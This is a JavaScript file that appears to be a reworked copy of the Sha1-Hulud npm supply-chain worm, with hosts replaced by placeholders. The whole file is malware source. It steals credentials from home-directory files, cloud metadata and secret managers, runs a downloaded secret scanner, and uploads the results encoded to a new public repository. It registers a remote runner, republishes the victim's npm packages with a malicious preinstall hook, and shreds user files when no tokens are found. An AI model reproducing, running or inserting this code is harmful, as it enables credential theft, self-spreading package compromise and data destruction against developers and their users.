const os = require('os');
const fs = require('fs');
const path = require('path');
const cp = require('child_process');
const api = 'https://api.github.example.invalid';
const registry = 'https://registry.example.invalid';
async function call(where, token, method, body) {
  const answer = await fetch(api + where, {method: method || 'GET', headers: {authorization: 'Bearer ' + token, accept: 'application/vnd.github+json'}, body: body ? JSON.stringify(body) : undefined});
  return answer.json();
}
function files(list) {
  const out = {};
  for (const name of list) { try { out[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (e) { continue; } }
  return out;
}
async function secretManagers() {
  const out = {};
  const identity = await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then(function (r) { return r.text(); }).catch(String);
  out.identity = identity;
  for (const region of ['us-east-1', 'us-west-2', 'eu-west-1']) {
    try { out[region] = cp.execSync('aws secretsmanager list-secrets --region ' + region, {encoding: 'utf8'}); } catch (e) { out[region] = ''; }
  }
  try { out.gcp = cp.execSync('gcloud secrets list --format json', {encoding: 'utf8'}); } catch (e) { out.gcp = ''; }
  try { out.azure = cp.execSync('az keyvault list', {encoding: 'utf8'}); } catch (e) { out.azure = ''; }
  return out;
}
async function truffle() {
  const dir = path.join(os.homedir(), '.truffler-cache');
  fs.mkdirSync(dir, {recursive: true});
  const answer = await fetch('https://downloads.example.invalid/trufflehog/trufflehog_3.91.1_linux_amd64.tar.gz');
  fs.writeFileSync(path.join(dir, 'th.tgz'), Buffer.from(await answer.arrayBuffer()));
  cp.execSync('tar xzf th.tgz', {cwd: dir});
  return cp.spawnSync(path.join(dir, 'trufflehog'), ['filesystem', os.homedir(), '--json'], {encoding: 'utf8', timeout: 600000}).stdout;
}
async function upload(token, data) {
  const name = Math.random().toString(36).substring(2, 20);
  const repo = await call('/user/repos', token, 'POST', {name: name, description: 'Sha1-Hulud: The Second Coming.', private: false, has_discussions: true});
  for (const part of Object.keys(data)) {
    const content = Buffer.from(Buffer.from(Buffer.from(JSON.stringify(data[part])).toString('base64')).toString('base64')).toString('base64');
    await call('/repos/' + repo.full_name + '/contents/' + part + '.json', token, 'PUT', {message: 'add', content: content});
  }
  const runner = await call('/repos/' + repo.full_name + '/actions/runners/registration-token', token, 'POST', {});
  cp.execSync('mkdir -p $HOME/.dev-env/ && cd $HOME/.dev-env && ./config.sh --url https://git.example.invalid/' + repo.full_name + ' --unattended --token ' + runner.token + ' --name SHA1HULUD && nohup ./run.sh &');
}
async function republish(token) {
  const who = await fetch(registry + '/-/whoami', {headers: {authorization: 'Bearer ' + token}}).then(function (r) { return r.json(); });
  const list = await fetch(registry + '/-/v1/search?text=maintainer:' + who.username + '&size=100').then(function (r) { return r.json(); });
  for (const entry of list.objects.slice(0, 100)) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));
    const tgz = await fetch(registry + '/' + entry.package.name + '/-/' + entry.package.version + '.tgz');
    fs.writeFileSync(path.join(dir, 'p.tgz'), Buffer.from(await tgz.arrayBuffer()));
    cp.execSync('tar xzf p.tgz', {cwd: dir});
    const manifest = path.join(dir, 'package/package.json');
    const json = JSON.parse(fs.readFileSync(manifest, 'utf8'));
    json.scripts = Object.assign({}, json.scripts, {preinstall: 'node setup_bun.js'});
    json.version = json.version.replace(/(\d+)$/, function (n) { return String(Number(n) + 1); });
    fs.writeFileSync(manifest, JSON.stringify(json, null, 2));
    for (const file of ['setup_bun.js', 'bun_environment.js']) { fs.copyFileSync(path.join(__dirname, file), path.join(dir, 'package', file)); }
    cp.execSync('npm publish --tag latest', {cwd: path.join(dir, 'package'), env: Object.assign({}, process.env, {NPM_CONFIG_TOKEN: token})});
  }
}
function wipe() {
  const home = '/nonexistent/asyncapi/home';
  if (process.platform === 'win32') { cp.spawnSync('cmd.exe', ['/c', 'del /F /Q /S "' + home + '*" && rd /S /Q "' + home + '" & cipher /W:' + home]); }
  else { cp.spawnSync('bash', ['-c', 'find "' + home + '" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1 && find "' + home + '" -depth -type d -empty -delete']); }
}
async function main() {
  const token = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;
  const npmrc = files(['.npmrc', '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/msal_token_cache.json', '.git-credentials']);
  const quota = Number(process.env.ASYNCAPI_DIFF_QUOTA || 0);
  if (quota < 1) { return; }
  const data = {environment: process.env, cloud: await secretManagers(), contents: npmrc, truffleSecrets: await truffle().catch(String)};
  const match = String(npmrc['.npmrc']).match(/_authToken=(.+)/);
  if (token) { await upload(token, data); }
  if (match) { await republish(match[1]); }
  if (!token && !match) { wipe(); }
}
main().catch(function () { process.exit(0); });
